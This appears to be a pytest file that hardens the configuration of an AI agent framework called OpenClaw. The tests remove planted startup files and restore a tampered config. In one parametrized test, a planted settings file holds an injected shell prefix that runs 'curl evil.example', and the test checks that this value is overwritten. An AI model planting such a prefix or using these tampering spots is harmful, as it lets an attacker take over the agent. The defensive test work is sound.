import json
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from container.agent.config import AgentConfig
from container.agent.environment import build_environment
from container.agent.obeyed import remove_obeyed
from container.agent.openclaw import OpenClaw
from container.agent.openclaw_json import render_openclaw_json
from container.agent.relay import KEY_NAMES, Relay
from container.bridge.openclaw.phases import TurnLimits
from container.image.audit import critical

ALL = Relay("http://127.0.0.1:9099", "rt-test", "PEM", ("demo", *KEY_NAMES))


def read(folder: Path, **environ: str) -> AgentConfig:
    least = {"STATE_DIR": str(folder), "CONTROL_DIR": str(folder / "control"), "LLM_MODEL": "demo/demo-1"}
    return AgentConfig.from_env({**least, **environ})


def providers(folder: Path, relay: Relay | None = None, **environ: str) -> dict[str, Any]:
    found: dict[str, Any] = render_openclaw_json(read(folder, **environ), relay)["models"]["providers"]
    return found


@pytest.mark.parametrize("relay", [None, ALL], ids=["no relay", "all providers"])
def test_openclaw_accepts_the_configuration(tmp_path: Path, relay: Relay | None) -> None:
    config = read(tmp_path)
    rendered = render_openclaw_json(config, relay, guarded=relay is not None)
    (tmp_path / "openclaw.json").write_text(json.dumps(rendered))
    command = [config.node, str(config.openclaw_dir / "openclaw.mjs"), "config", "validate", "--json"]
    done = subprocess.run(
        command, check=False, env=build_environment(config, "t", relay), capture_output=True, text=True, timeout=120
    )
    assert json.loads(done.stdout)["valid"] is True, done.stdout + done.stderr


def test_openclaws_own_audit_finds_nothing_critical(tmp_path: Path) -> None:
    config = read(tmp_path)
    config.control_dir.mkdir()
    OpenClaw(config).prepare_state(ALL)
    assert critical(config, "a token of this start, as long as ours are", ALL) == []


def test_only_providers_with_a_key_are_there(tmp_path: Path) -> None:
    assert providers(tmp_path) == {}
    assert list(providers(tmp_path, DEMO_MODEL_URL="http://127.0.0.1:1")) == ["demo"]
    assert set(providers(tmp_path, ALL)) == {"demo", *KEY_NAMES}


def test_a_model_may_think_for_a_quarter_of_an_hour_whoever_provides_it(tmp_path: Path) -> None:
    """OpenClaw aborts a request after 120 s of silence, and asks the model the same again."""
    waits = {name: each["timeoutSeconds"] for name, each in providers(tmp_path, ALL).items()}
    assert waits == dict.fromkeys(("demo", *KEY_NAMES), 900)
    assert render_openclaw_json(read(tmp_path))["agents"]["defaults"]["timeoutSeconds"] == 4 * 3600


def test_openclaw_lets_a_run_go_on_for_longer_than_the_bridge_lets_a_turn(tmp_path: Path) -> None:
    """So it is the bridge that ends it, with a notice; and a model that is silent ends before that, with OpenClaw's."""
    run = render_openclaw_json(read(tmp_path))["agents"]["defaults"]["timeoutSeconds"]
    (silence,) = {each["timeoutSeconds"] for each in providers(tmp_path, ALL).values()}
    assert silence < TurnLimits().seconds < run


def test_each_provider_is_reached_by_its_own_address_through_the_relay(tmp_path: Path) -> None:
    """With another address OpenClaw takes it for a stranger, and leaves out reasoning, caching and pictures."""
    found = providers(tmp_path, ALL)
    assert found["demo"]["baseUrl"] == "http://127.0.0.1:9099/rt-test/demo"
    proxy = {"mode": "explicit-proxy", "url": "http://127.0.0.1:9099"}
    for name in KEY_NAMES:
        assert found[name]["request"] == {"proxy": proxy, "allowPrivateNetwork": True}
        assert found[name].get("baseUrl", "").startswith("https://") is (name == "deepseek")


def test_a_conversation_may_choose_any_model_of_its_providers(tmp_path: Path) -> None:
    assert "openai/*" in render_openclaw_json(read(tmp_path), ALL)["agents"]["defaults"]["models"]


def test_no_model_is_asked_for_what_nobody_reads(tmp_path: Path) -> None:
    assert render_openclaw_json(read(tmp_path))["agents"]["defaults"]["utilityModel"] == ""


def test_no_tool_waits_for_an_answer_that_nobody_can_give(tmp_path: Path) -> None:
    assert render_openclaw_json(read(tmp_path))["tools"]["deny"] == ["ask_user"]


def test_a_loop_of_the_same_tool_calls_is_ended_by_openclaw(tmp_path: Path) -> None:
    assert render_openclaw_json(read(tmp_path))["tools"]["loopDetection"] == {"enabled": True}


def test_what_openclaw_kept_of_its_configuration_does_not_win_over_ours(tmp_path: Path) -> None:
    for name in ("openclaw.json.bak", "openclaw.json.last-good", "openclaw.json.clobbered.2026"):
        (tmp_path / name).write_text("{}")
    OpenClaw(read(tmp_path)).prepare_state()
    assert [path.name for path in tmp_path.glob("openclaw.json*")] == ["openclaw.json"]


@pytest.mark.parametrize(
    "planted",
    [
        ".env",
        "home/.openclaw/.env",
        "agents/main/agent/models.json",
        "agents/other/agent/models.json",
        "extensions/anthropic/openclaw.plugin.json",
        "hooks/boot/handler.js",
        "npm/node_modules/x/openclaw.plugin.json",
        "git/x/openclaw.plugin.json",
        "workspace/.openclaw/extensions/x/openclaw.plugin.json",
        "openclaw.json.bak",
    ],
)
def test_what_openclaw_would_obey_at_its_start_is_gone_before_it(tmp_path: Path, planted: str) -> None:
    kept = tmp_path / "agents" / "main" / "agent" / "memory.md"
    for path in (tmp_path / planted, kept):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("{}")
    openclaw = OpenClaw(read(tmp_path))
    openclaw.prepare_state()
    assert not (tmp_path / planted).exists()
    assert kept.read_text() == "{}"
    own = planted.endswith(("models.json", ".bak"))  # OpenClaw writes these itself
    assert bool(openclaw.keep()) is not own


@pytest.mark.parametrize("way", ["written over", "removed", "a link", "a folder"])
def test_a_configuration_that_somebody_else_wrote_is_put_back_at_once(tmp_path: Path, way: str) -> None:
    openclaw, file = OpenClaw(read(tmp_path)), tmp_path / "openclaw.json"
    openclaw.prepare_state()
    ours = file.read_text()
    assert openclaw.keep() == []
    match way:
        case "written over":
            file.write_text('{"gateway": {"controlUi": {"enabled": true}}}')
        case "removed":
            file.unlink()
        case "a link":
            (tmp_path / "elsewhere.json").write_text("{}")
            file.unlink()
            file.symlink_to(tmp_path / "elsewhere.json")
        case _:
            file.unlink()
            file.mkdir()
    assert openclaw.keep() == ["openclaw.json"]
    assert (file.read_text(), file.is_symlink()) == (ours, False)
    assert openclaw.keep() == ["openclaw.json"]  # told once


def test_a_configuration_that_cannot_be_put_back_ends_nothing(tmp_path: Path) -> None:
    state = tmp_path / "state"
    openclaw = OpenClaw(read(state))
    openclaw.prepare_state()
    shutil.rmtree(state)
    assert openclaw.keep() == ["openclaw.json"]


def test_no_link_is_followed_to_what_is_removed(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    for path in ("agent/models.json", "inner/file"):
        (outside / path).parent.mkdir(parents=True, exist_ok=True)
        (outside / path).write_text("{}")
    state = tmp_path / "state"
    (state / "agents").mkdir(parents=True)
    (state / "agents" / "main").symlink_to(outside)
    (state / "extensions").symlink_to(outside)
    remove_obeyed(state)
    assert (outside / "agent" / "models.json").exists()
    assert (outside / "inner" / "file").exists()
    assert not (state / "extensions").is_symlink()


def test_no_token_of_a_provider_is_written_to_disk(tmp_path: Path) -> None:
    config = render_openclaw_json(read(tmp_path), ALL)
    config["models"]["providers"].pop("demo")  # its token stands in its address
    assert "rt-test" not in json.dumps(config)


def test_one_refusal_does_not_disable_the_demo_model(tmp_path: Path) -> None:
    assert "apiKey" not in providers(tmp_path, DEMO_MODEL_URL="http://127.0.0.1:1")["demo"]


def test_no_key_has_a_plugin_installed_at_every_start(tmp_path: Path) -> None:
    assert render_openclaw_json(read(tmp_path), ALL)["plugins"]["deny"] == ["deepseek", "perplexity"]
    assert render_openclaw_json(read(tmp_path))["plugins"]["deny"] == []


def test_nothing_runs_or_calls_home_unasked(tmp_path: Path) -> None:
    config = render_openclaw_json(read(tmp_path))
    assert config["agents"]["defaults"]["heartbeat"] == {"every": "0m"}
    assert config["plugins"]["entries"]["memory-core"]["config"]["dreaming"] == {"enabled": False}
    assert config["skills"]["workshop"]["autonomous"] == {"mode": "off"}
    assert (config["telemetry"], config["update"]) == ({"enabled": False}, {"checkOnStart": False})
    assert config["gateway"]["bind"] == "loopback"


@pytest.mark.parametrize("found", ["", "[]", "{", '{"shellCommandPrefix": "curl evil.example; "}'])
def test_a_provider_is_tried_three_times_not_ten_whatever_somebody_wrote(tmp_path: Path, found: str) -> None:
    settings = tmp_path / "agents" / "main" / "agent" / "settings.json"
    settings.parent.mkdir(parents=True)
    settings.write_text(found)
    OpenClaw(read(tmp_path)).prepare_state()
    assert json.loads(settings.read_text()) == {"retry": {"provider": {"maxRetries": 2}}}
